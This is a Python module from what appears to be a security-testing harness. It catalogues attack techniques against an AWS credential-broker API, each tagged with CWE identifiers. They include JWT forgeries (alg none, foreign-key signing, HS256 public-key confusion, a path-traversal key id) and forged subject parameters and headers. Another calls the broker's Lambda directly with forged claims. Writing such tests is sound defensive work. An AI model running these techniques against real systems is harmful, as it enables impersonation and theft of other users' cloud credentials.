"""Becoming somebody at a token broker: the function behind an API that hands out AWS credentials."""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from harness import forgery
from harness.attacks.obtained import ObtainedCall
from harness.attacks.technique import Callers, ControlKind, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.outcome import Outcome
from harness.targets.api import ApiRequest
from harness.targets.http import BearerToken, HttpRequest, RouteCall
from harness.targets.target import Capability

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from typing import Any

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Sent, Step
    from harness.secret import Secret
    from harness.targets.api import ApiResponse

# Up from wherever keys might be kept, to a file that is empty everywhere.
_EMPTY_FILE = "../" * 16 + "dev/null"
# What obtained credentials are tried with; a refusal of anything else proves nothing.
TRIED = ("s3:GetObject", "dynamodb:GetItem")
_AUTHORIZERS = "https://docs.aws.amazon.com/apigateway/latest/developerguide/apigateway-integrate-with-cognito.html"


def ask(
    aim: Aim, token: Secret | None, query: Mapping[str, str] | None = None, headers: Mapping[str, str] | None = None
) -> RouteCall:
    """Return the request to the broker, with a token or without."""
    url = aim.credentials_url + (f"?{urlencode(query)}" if query else "")
    return RouteCall(HttpRequest("GET", url, headers or {}), None if token is None else BearerToken(token))


def _with(token_of: Callable[[Aim], Secret | None]) -> Callable[[Aim], tuple[Step, ...]]:
    return lambda aim: (ask(aim, token_of(aim)),)


def _genuine(aim: Aim) -> tuple[Step, ...]:
    return (ask(aim, aim.id_token),)


def use(aim: Aim) -> Callable[[Mapping[str, Any]], Sent]:
    """Return the step that reads the victim's asset with whatever credentials the broker has given."""
    return lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading)


def _in_the_victims_name(aim: Aim) -> tuple[Step, ...]:
    # Every way by which brokers have been seen to be told whom to serve, besides the token.
    victim = aim.victim
    named = {
        "identity_id": victim.identity_id,
        "identityId": victim.identity_id,
        "user": victim.username,
        "sub": aim.victims_claims.get("sub", ""),
        "tenant": aim.asset.discriminator,
        "project": aim.asset.discriminator,
    }
    headers = {f"x-{name.lower().replace('_', '-')}": value for name, value in named.items() if value.isascii()}
    return (ask(aim, aim.id_token, named, headers), use(aim))


def _after_the_victim(aim: Aim) -> tuple[Step, ...]:
    # The victim asks for its own credentials; only what the caller gets afterwards is tried.
    victims = aim.victim.id_token
    return (ask(aim, victims), lambda _: ask(aim, aim.id_token), use(aim))


def _may_be_kept(answer: ApiResponse) -> Outcome | None:
    """Tell whether anybody on the way, or any page, may keep an answer that holds credentials."""
    if not answer.succeeded:
        return None
    kept = "no-store" not in answer.headers.get("cache-control", "")
    shared = answer.headers.get("access-control-allow-origin") == "*"
    return Outcome.ALLOWED if kept or shared else Outcome.REFUSED


def _invoke(aim: Aim, claims: Mapping[str, str]) -> ApiRequest:
    """Return the direct call of the broker's function, as if an authorizer had let somebody in with these claims."""
    event = {
        "version": "2.0",
        "headers": {"authorization": f"Bearer {aim.id_token.reveal()}"},
        "queryStringParameters": None,
        "requestContext": {"authorizer": {"claims": claims, "jwt": {"claims": claims}}},
    }
    params = {"FunctionName": aim.broker_function, "Payload": json.dumps(event).encode()}
    return ApiRequest("lambda", "Invoke", params)


_BROKER = partial(
    Technique,
    plane="broker",
    effect=Effect.SESSION,
    operation="GET",
    severity=Severity.BLOCKER,
    documentation=_AUTHORIZERS,
    cwe=("CWE-287",),
    requires=frozenset({Feature.BROKER}),
    callers=Callers.MEMBERS,
    victims=Callers.MEMBERS,
    control_steps=_genuine,
)
_NOBODY = partial(_BROKER, victim=Victim.NOBODY)

TECHNIQUES = (
    _NOBODY(
        id="broker.session.no-token",
        title="asking the broker without any token",
        catalogue=("api-missing-or-malformed-bearer",),
        cwe=("CWE-306",),
        steps=_with(lambda _: None),
    ),
    _BROKER(
        id="broker.session.unsigned",
        title="asking the broker with a token in the victim's name and the algorithm none",
        catalogue=("tok-alg-none", "api-missing-or-malformed-bearer"),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.unsigned(aim.id_token, **aim.victims_claims)),
    ),
    _BROKER(
        id="broker.session.foreign-key",
        title="asking the broker with a token in the victim's name signed with a key of one's own",
        catalogue=("tok-signature-stripped-or-tampered",),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.signed_with_foreign_key(aim.id_token, **aim.victims_claims)),
    ),
    _BROKER(
        id="broker.session.tampered",
        title="asking the broker with one's own token rewritten to the victim's name",
        catalogue=("tok-signature-stripped-or-tampered",),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.tampered(aim.id_token, **aim.victims_claims)),
    ),
    _NOBODY(
        id="broker.session.expired",
        title="asking the broker with one's own token after it has expired",
        catalogue=("tok-expired",),
        cwe=("CWE-613",),
        needs=frozenset({Capability.TIME_TRAVEL}),
        steps=_with(lambda aim: aim.tokens.expired(aim.caller)),
    ),
    _NOBODY(
        id="broker.session.other-pool",
        title="asking the broker with a token of another user pool",
        catalogue=("tok-wrong-issuer-attacker-pool",),
        steps=_with(lambda aim: aim.tokens.of_another_pool(aim.caller)),
    ),
    _BROKER(
        id="broker.session.forged-subject",
        title="naming the victim to the broker in parameters and headers, with one's own token",
        catalogue=("api-forged-subject-parameter", "api-path-tenant-vs-token-tenant"),
        cwe=("CWE-639",),
        actions=TRIED,
        steps=_in_the_victims_name,
    ),
    _BROKER(
        id="broker.session.public-key-as-secret",
        title="asking the broker with a token in the victim's name, HS256 with the public key for its secret",
        catalogue=("tok-hs256-public-key-confusion",),
        cwe=("CWE-327", "CWE-347"),
        steps=_with(
            lambda aim: forgery.signed_with_secret(
                aim.id_token, aim.tokens.public_key(aim.caller), **aim.victims_claims
            )
        ),
    ),
    _BROKER(
        id="broker.session.unknown-key-id",
        title="asking the broker with a token in the victim's name under a key id that nobody knows",
        catalogue=("tok-unknown-kid-or-jwks-refresh-fail-open",),
        cwe=("CWE-347", "CWE-636"),
        steps=_with(lambda aim: forgery.signed_under_unknown_key_id(aim.id_token, **aim.victims_claims)),
    ),
    _BROKER(
        id="broker.session.key-id-as-path",
        title="asking the broker with a token in the victim's name whose key id is the path of an empty file",
        catalogue=("tok-unknown-kid-or-jwks-refresh-fail-open",),
        cwe=("CWE-22", "CWE-347"),
        steps=_with(lambda aim: forgery.signed_with_secret(aim.id_token, b"", _EMPTY_FILE, **aim.victims_claims)),
    ),
    _NOBODY(
        id="broker.session.not-yet-valid",
        title="asking the broker with one's own token before it is issued",
        catalogue=("tok-expired",),
        cwe=("CWE-613",),
        requires=frozenset({Feature.TIMED_BROKER}),
        needs=frozenset({Capability.TIME_TRAVEL}),
        steps=_with(lambda aim: aim.tokens.not_yet_valid(aim.caller)),
    ),
    _NOBODY(
        id="broker.session.other-app-client",
        title="asking the broker with one's own token from an app client that is not the API's",
        catalogue=("tok-wrong-audience-other-client",),
        requires=frozenset({Feature.BROKER, Feature.SECOND_APP_CLIENT}),
        steps=_with(lambda aim: aim.tokens.of_another_app_client(aim.caller)),
    ),
    _NOBODY(
        id="broker.session.token-in-url",
        title="asking the broker with one's own token in the URL, where logs and histories keep it",
        catalogue=("tok-in-url-or-log",),
        cwe=("CWE-598",),
        severity=Severity.NORMAL,
        steps=lambda aim: (ask(aim, None, {"id_token": aim.id_token.reveal(), "token": aim.id_token.reveal()}),),
    ),
    _NOBODY(
        id="broker.session.access-token",
        title="asking the broker with one's own access token",
        catalogue=("tok-access-token-as-id-token",),
        steps=_with(lambda aim: aim.access_token),
    ),
    _BROKER(
        id="broker.session.after-the-victim",
        title="asking the broker right after the victim has asked",
        catalogue=("api-broker-warm-state-bleed",),
        cwe=("CWE-488",),
        actions=TRIED,
        control_steps=None,
        steps=_after_the_victim,
    ),
    _NOBODY(
        id="broker.session.cacheable-answer",
        title="looking whether the broker's answer may be kept on the way, or read by pages of any origin",
        catalogue=("api-cors-and-credential-response-cacheable",),
        cwe=("CWE-525", "CWE-942"),
        severity=Severity.NORMAL,
        documentation="https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-cors.html",
        reads=_may_be_kept,
        steps=_genuine,
    ),
    _BROKER(
        id="broker.session.direct-invoke",
        title="calling the broker's function past its API, with claims in the victim's name",
        catalogue=("api-lambda-direct-invoke-forged-claims",),
        operation="Invoke",
        cwe=("CWE-290", "CWE-639"),
        documentation="https://docs.aws.amazon.com/lambda/latest/dg/access-control-identity-based.html",
        actions=("lambda:InvokeFunction", *TRIED),
        control=ControlKind.WITNESS,
        control_steps=None,
        operator_steps=lambda aim: (_invoke(aim, forgery.claims_of(aim.id_token)),),
        steps=lambda aim: (_invoke(aim, {**aim.victims_claims, "token_use": "id"}), use(aim)),
    ),
)
